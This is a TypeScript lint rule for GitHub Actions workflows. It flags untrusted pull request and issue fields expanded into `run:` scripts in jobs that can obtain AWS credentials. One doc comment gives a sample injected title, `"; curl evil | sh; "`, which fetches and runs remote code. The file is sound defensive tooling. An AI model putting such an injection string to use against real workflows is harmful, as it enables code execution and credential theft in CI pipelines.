import { message } from '../../../i18n/message.js';
import type { Finding } from '../finding.js';
import { tokenMinters } from '../jobs.js';
import { finding, type LintRule } from '../rule.js';

/**
 * Context values an outsider writes. GitHub's "Script injections" page: untrusted `github` context values typically
 * end with body, default_branch, email, head_ref, label, message, name, page_name, ref or title (plus
 * workflow_run.head_branch, a branch name from a fork). The repository's own data (`github.event.repository.*`) and
 * dispatch inputs (people with write access) are left out.
 */
const UNTRUSTED_FIELD =
  /^github\.(?:head_ref|event\.(?!repository\.|inputs\.)(?:[\w-]+|\*)(?:\.(?:[\w-]+|\*))*\.(?:body|default_branch|email|head_ref|label|message|name|page_name|ref|title|head_branch))$/;

/** `github.event['issue'].title`, `github.event.commits[0].message` → dotted, lower-case (contexts ignore case). */
function normalize(reference: string): string {
  return reference
    .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
    .replace(/\[\s*\d+\s*\]/g, '.*')
    .toLowerCase();
}

/** The untrusted context references in a `run:` script's `${{ }}` expressions; one linear pass. */
function untrustedReferences(script: string): string[] {
  const found: string[] = [];
  let at = script.indexOf('${{');
  while (at >= 0) {
    const end = script.indexOf('}}', at + 3);
    if (end < 0) break;
    for (const match of script.slice(at + 3, end).matchAll(/\bgithub(?:\.[\w-]+|\.\*|\[[^\]]*\])+/g)) {
      if (UNTRUSTED_FIELD.test(normalize(match[0]))) found.push(match[0]);
    }
    at = script.indexOf('${{', end + 2);
  }
  return found;
}

/**
 * GitHub expands `${{ }}` into the script text before the shell runs it, so a pull request title like
 * `"; curl evil | sh; "` runs as code, here in a job that can obtain AWS credentials.
 */
export const untrustedInputInRun: LintRule = {
  id: 'untrusted-input-in-run',
  severity: 'error',
  summary: 'a job that can assume the AWS role expands untrusted input (titles, bodies, branch names) into `run:`',
  check(workflow, context) {
    const mints = tokenMinters(workflow, context.workflows);
    const findings: Finding[] = [];
    for (const job of workflow.jobs) {
      if (!job.steps.some((step) => step.run?.includes('${{')) || !mints(job)) continue;
      for (const step of job.steps) {
        if (step.run === undefined) continue;
        const references = [...new Set(untrustedReferences(step.run))];
        if (references.length === 0) continue;
        findings.push(
          finding(
            this,
            workflow,
            [...step.path, 'run'],
            message('untrusted-input-in-run', {
              job: job.id,
              references: references.map((r) => `\${{ ${r} }}`).join(', '),
            }),
            message('untrusted-input-in-run.fix', { expression: `\${{ ${references[0]} }}` }),
          ),
        );
      }
    }
    return findings;
  },
};
